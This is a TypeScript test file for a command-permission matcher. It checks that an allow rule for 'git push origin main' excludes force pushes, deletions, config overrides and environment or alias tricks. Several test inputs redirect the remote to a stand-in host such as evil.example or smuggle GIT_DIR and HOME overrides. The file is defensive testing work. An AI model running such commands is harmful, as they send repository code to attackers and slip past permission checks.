/** A yes to pushes of a branch is one to nothing else: not by an option, not by another branch, not by what the line does around it. */
import { describe, expect, test } from 'vitest';
import { createRuleMatcher } from '#core/policy/rules/match-rule.ts';
import { isPushLed } from '#core/policy/narrow/narrow-push.ts';
import { proposeRule } from '#core/policy/rules/propose-rule.ts';
import { createCommandReader } from '#core/request/reading/command-reader.ts';
import type { CommandRule } from '#domain/rules/rule.ts';

const projectRoot = '/p';
const reader = createCommandReader();
const read = (line: string) =>
  reader.read(['bash', '-c', line], { cwd: '/p', isPlain: true, variable: () => undefined, list: () => null });
const rule = (...tokens: string[]): CommandRule => ({
  id: 'rul_1',
  effect: 'allow',
  match: 'prefix',
  tokens,
  project: projectRoot,
  sandbox: 'keep',
  expiresAt: null,
  createdAt: 1,
  origin: 'person',
  reason: null,
});

/** Whether each push of the line is covered. */
function isCovered(line: string, ...tokens: string[]): boolean {
  const parsed = read(line);
  const isLed = (segment: (typeof parsed.segments)[number]): boolean =>
    isPushLed(segment, { parsed, cwd: projectRoot, projectRoot });
  const matcher = createRuleMatcher([rule(...tokens)], { projectRoot, now: 1, isLed });
  const pushes = parsed.segments.filter(({ argv, wrappers }) => argv.includes('push') && wrappers.length === 0);
  return pushes.length > 0 && pushes.every((segment) => matcher.match(segment) !== null);
}
const main = ['git', 'push', 'origin', 'main'];

test.each([
  'git push origin main',
  'git push origin main -v --no-progress',
  'cd /p && git push origin main',
  'git add -A && git commit -m "git config remote" && git push origin main',
  'git commit -m "$(cat note)" && git push origin main',
  'git remote -v && git push origin main',
  'printf done; git push origin main; git push origin main',
])('%s is covered', (line) => {
  expect(isCovered(line, ...main)).toBe(true);
});

describe.each([[main], [['git', 'push', 'origin']]])('a rule for %j', (tokens) => {
  test.each([
    'git push origin main --force',
    'git push origin main --force-with-lease',
    'git push origin main --force-w',
    'git push --force origin main',
    'git push origin main -f',
    'git push origin main -uf',
    'git push origin +main',
    'git push origin main +dev',
    'git push origin --mirror',
    'git push origin --mi',
    'git push origin --all',
    'git push origin main --delete',
    'git push origin main --pru',
    'git push origin :main',
    'git push origin main :dev',
    'git push origin main:dev',
    'git push origin "refs/heads/*"',
    'git push origin',
    'git push',
    'git push origin main --repo=evil',
    'git push origin main --receive-pack=x',
    'git push origin main --recurse-submodules=on-demand',
    'git push origin main $X',
    'git push origin main; git push origin main -f',
    'git -c alias.p=push push origin main',
    'git -c remote.origin.push=+main push origin main',
    'git -C other push origin main',
    'GIT_DIR=/tmp/x git push origin main',
    'HOME=/tmp/x git push origin main',
    'https_proxy=http://x git push origin main',
    'export HOME=/tmp/x; git push origin main',
    'HOME=/tmp/x; git push origin main',
    'declare -x GIT_DIR=/tmp/x; git push origin main',
    'printf -v GIT_DIR /tmp/x; git push origin main',
    'read GIT_DIR < x; git push origin main',
    'set -a; GIT_DIR=/tmp/x; git push origin main',
    '. ./env; git push origin main',
    '$X; git push origin main',
    'cd other && git push origin main',
    'cd $X && git push origin main',
    '(pushd /tmp/x; git push origin main)',
    'git() { x; }; git push origin main',
    'function git { x; }; git push origin main',
    'alias git=x\ngit push origin main',
    'git remote set-url origin https://evil.example/x && git push origin main',
    'git config remote.origin.pushurl https://evil.example/x && git push origin main',
    'git config url.https://evil.example/.insteadOf https://good.example/; git push origin main',
    'git -c a.b=c config push.default matching; git push origin main',
  ])('does not cover %s', (line) => {
    expect(isCovered(line, ...tokens)).toBe(false);
  });
});

test.each([
  ['git push origin main', main],
  ['git push -u origin main', ['git', 'push', '-u', 'origin', 'main']],
  ['git push origin', undefined],
  ['git push', undefined],
  ['git push origin --all', undefined],
  ['git push origin --prune main', undefined],
  ['git push origin tag v1', undefined],
  ['git push origin :main', undefined],
  ['git push origin "refs/heads/*"', undefined],
])('for %s the rule is %j', (line, prefix) => {
  expect(proposeRule(read(line))?.prefix).toEqual(prefix);
});
